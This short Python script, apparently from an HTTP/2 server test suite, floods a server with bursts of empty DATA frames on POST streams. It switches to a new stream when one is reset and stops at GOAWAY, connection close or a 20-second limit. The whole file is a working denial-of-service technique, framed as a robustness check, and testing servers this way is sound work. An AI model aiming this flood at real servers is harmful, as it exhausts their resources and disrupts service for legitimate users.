"""Empty DATA flood: a POST stream whose body is an endless run of empty
DATA frames (each costs the server a frame, none brings a byte), stream
after stream, until the server says GOAWAY or closes."""
import time
from h2raw import *

c = Conn(port())
limit = arg(2, 1000000)
enc = Encoder()
sent = 0
sid = 1
while sent < limit and c.goaway is None and not c.closed and time.monotonic() - c.start < 20:
    c.send(frame(HEADERS, END_HEADERS, sid, request_block(enc, "/a.txt", "POST")))
    burst = frame(DATA, 0, sid) * 2000
    if not c.send(burst):
        break
    sent += 2000
    c.poll()
    if c.rst:
        # That stream was refused: go on with a new one.
        c.rst = 0
        sid += 2
c.finish()
c.report(sent)
